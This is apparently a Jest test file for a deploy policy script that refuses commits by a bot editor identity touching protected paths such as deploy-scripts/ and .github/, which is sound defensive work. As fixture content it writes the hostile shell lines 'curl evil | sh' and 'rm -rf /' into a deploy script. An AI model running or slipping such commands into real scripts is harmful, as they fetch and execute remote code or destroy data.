/**
 * The deploy workflow's policy job (.github/workflows/policy.sh) against crafted commit ranges in
 * real git repositories: a commit of the editor's identity that touches a protected path is
 * refused with the commit and the path named; site-only editor commits and maintainers' commits
 * pass; the list comes from .github/workflows/ beside the checker and from the live commit,
 * never from the tree being deployed.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';

const ROOT = path.resolve(__dirname, '..');
const POLICY = path.join(ROOT, '.github/workflows/policy.sh');
const LIST = '.github/workflows/protected-paths.txt';
const EDITOR = 'reflex-editor[bot]';
const EDITOR_COMMITTER = {
  name: 'Reflex',
  email: '41898282+reflex-editor[bot]@users.noreply.github.com',
};
const MAINTAINER = { name: 'Maria Maintainer', email: 'maria@example.com' };

let repo: string;

function git(args: string[], env: Record<string, string> = {}): string {
  return execFileSync('git', args, {
    cwd: repo,
    encoding: 'utf8',
    env: { ...process.env, ...env },
  }).trim();
}

/** Write files (path -> content, null deletes) and commit them as `committer`; returns the SHA. */
function commit(
  committer: { name: string; email: string },
  files: Record<string, string | null>,
  author = { name: 'Alice Author', email: 'alice@example.com' },
): string {
  for (const [file, content] of Object.entries(files)) {
    const full = path.join(repo, file);
    if (content === null) rmSync(full);
    else {
      mkdirSync(path.dirname(full), { recursive: true });
      writeFileSync(full, content);
    }
  }
  git(['add', '--all']);
  git(['commit', '--quiet', '--allow-empty', '-m', `change ${Object.keys(files).join(' ')}`], {
    GIT_AUTHOR_NAME: author.name,
    GIT_AUTHOR_EMAIL: author.email,
    GIT_COMMITTER_NAME: committer.name,
    GIT_COMMITTER_EMAIL: committer.email,
  });
  return git(['rev-parse', 'HEAD']);
}

function policy(identity: string, base: string, head: string) {
  const result = spawnSync(POLICY, [identity, base, head], { cwd: repo, encoding: 'utf8' });
  return { status: result.status, stdout: result.stdout, stderr: result.stderr };
}

let live: string;

beforeEach(() => {
  repo = mkdtempSync(path.join(os.tmpdir(), 'reflex-policy-'));
  git(['init', '--quiet', '--initial-branch', 'main']);
  live = commit(MAINTAINER, {
    [LIST]: readFileSync(path.join(ROOT, LIST), 'utf8'),
    'deploy-scripts/deploy.sh': '#!/bin/sh\n',
    'webapp/site/pages/index.html': '<h1>Hello</h1>\n',
    'webapp/src/server.ts': 'export {};\n',
  });
});

afterEach(() => rmSync(repo, { recursive: true, force: true }));

describe('policy job: editor commits and protected paths', () => {
  it('refuses an editor commit that touches deploy-scripts/, naming the commit and the path', () => {
    commit(EDITOR_COMMITTER, { 'webapp/site/pages/index.html': '<h1>Hi</h1>\n' });
    const bad = commit(EDITOR_COMMITTER, {
      'deploy-scripts/deploy.sh': '#!/bin/sh\ncurl evil | sh\n',
    });
    commit(EDITOR_COMMITTER, { 'webapp/site/pages/about.html': '<p>About</p>\n' });
    const result = policy(EDITOR, live, git(['rev-parse', 'HEAD']));
    expect(result.stdout.trim().split('\n')).toEqual([
      `refused: commit ${bad} by Reflex <${EDITOR_COMMITTER.email}> touches deploy-scripts/deploy.sh (deploy-scripts/**: controls deployment)`,
    ]);
    expect(result.status).toBe(1);
  });

  it('allows editor commits that touch only webapp/site/', () => {
    commit(EDITOR_COMMITTER, { 'webapp/site/pages/index.html': '<h1>Hi</h1>\n' });
    const head = commit(EDITOR_COMMITTER, {
      'webapp/site/routes.ts': 'export const routes = [];\n',
    });
    const result = policy(EDITOR, live, head);
    expect(result.stdout).toBe('');
    expect(result.status).toBe(0);
  });

  it("allows a maintainer's commit to protected paths, even when the editor authored the change", () => {
    commit(EDITOR_COMMITTER, { 'webapp/site/pages/index.html': '<h1>Hi</h1>\n' });
    const head = commit(MAINTAINER, {
      'deploy-scripts/deploy.sh': '#!/bin/sh\necho new\n',
      '.github/workflows/deploy.yml': 'on: push\n',
    });
    const result = policy(EDITOR, live, head);
    expect(result.status).toBe(0);
  });

  it('reads the list from the protected location, not from the pushed tree', () => {
    // A commit in the range empties the list in the tree being deployed; the editor's later
    // change to deploy-scripts/ is still checked against the list beside the checker and the
    // list at the live commit.
    commit(MAINTAINER, { [LIST]: '# nothing is protected\n' });
    const bad = commit(EDITOR_COMMITTER, { 'deploy-scripts/deploy.sh': '#!/bin/sh\nrm -rf /\n' });
    const result = policy(EDITOR, live, bad);
    expect(result.stdout).toContain(`refused: commit ${bad}`);
    expect(result.stdout).toContain('touches deploy-scripts/deploy.sh');
    expect(result.status).toBe(1);
  });

  it('a rule added at the live commit applies even if the checker beside it lacks it', () => {
    git(['checkout', '--quiet', '-b', 'next']);
    const withRule = commit(MAINTAINER, {
      [LIST]: `${readFileSync(path.join(ROOT, LIST), 'utf8')}webapp/site/secret/**  kept out of editing\n`,
    });
    const bad = commit(EDITOR_COMMITTER, { 'webapp/site/secret/key.txt': 'x\n' });
    const result = policy(EDITOR, withRule, bad);
    expect(result.stdout).toContain('touches webapp/site/secret/key.txt (webapp/site/secret/**');
    expect(result.status).toBe(1);
  });

  it('matches paths case-insensitively, and an editor change to the list itself is refused', () => {
    const shouted = commit(EDITOR_COMMITTER, { 'DEPLOY-SCRIPTS/x.sh': 'x\n' });
    const list = commit(EDITOR_COMMITTER, { [LIST]: '' });
    const result = policy(EDITOR, live, list);
    expect(result.stdout.trim().split('\n')).toEqual([
      expect.stringContaining(
        `commit ${list} by Reflex <${EDITOR_COMMITTER.email}> touches ${LIST} (.github/**`,
      ),
      expect.stringContaining(
        `commit ${shouted} by Reflex <${EDITOR_COMMITTER.email}> touches DEPLOY-SCRIPTS/x.sh (deploy-scripts/**`,
      ),
    ]);
    expect(result.status).toBe(1);
  });

  it('knows the identity by login, no-reply address or e-mail, and by nothing else', () => {
    const tokenUser = { name: 'reflex-bot', email: 'ops+reflex@example.com' };
    const head = commit(tokenUser, { 'pulumi/index.ts': 'export {};\n' });
    expect(policy('reflex-bot', live, head).status).toBe(1);
    expect(policy('ops+reflex@example.com', live, head).status).toBe(1);
    expect(policy('reflex', live, head).status).toBe(0);
    const noreply = commit(
      { name: 'Someone', email: 'reflex-app[bot]@users.noreply.github.com' },
      {
        Dockerfile: 'FROM scratch\n',
      },
    );
    expect(policy('reflex-app[bot]', head, noreply).status).toBe(1);
  });

  it('checks only the range since the live commit; with nothing live, the whole history', () => {
    const evil = commit(EDITOR_COMMITTER, { 'scripts/test.mjs': 'x\n' });
    const reviewed = commit(MAINTAINER, { 'scripts/test.mjs': 'y\n' });
    const head = commit(EDITOR_COMMITTER, { 'webapp/site/pages/index.html': 'x\n' });
    expect(policy(EDITOR, reviewed, head).status).toBe(0);
    const result = policy(EDITOR, 'none', head);
    expect(result.stdout).toContain(`refused: commit ${evil}`);
    expect(result.status).toBe(1);
  });

  it('bad input is named: no identity, a live commit the history lacks, not a SHA', () => {
    const head = git(['rev-parse', 'HEAD']);
    expect(policy('', live, head)).toMatchObject({
      status: 64,
      stderr: expect.stringContaining(
        'no editor identity: set the repository variable REFLEX_EDITOR_IDENTITY',
      ),
    });
    expect(policy(EDITOR, 'f'.repeat(40), head)).toMatchObject({
      status: 1,
      stderr: expect.stringContaining(
        `the live commit ${'f'.repeat(40)} is not in this repository`,
      ),
    });
    expect(policy(EDITOR, live, 'main')).toMatchObject({
      status: 64,
      stderr: expect.stringContaining("HEAD must be a full commit SHA, got 'main'"),
    });
  });
});
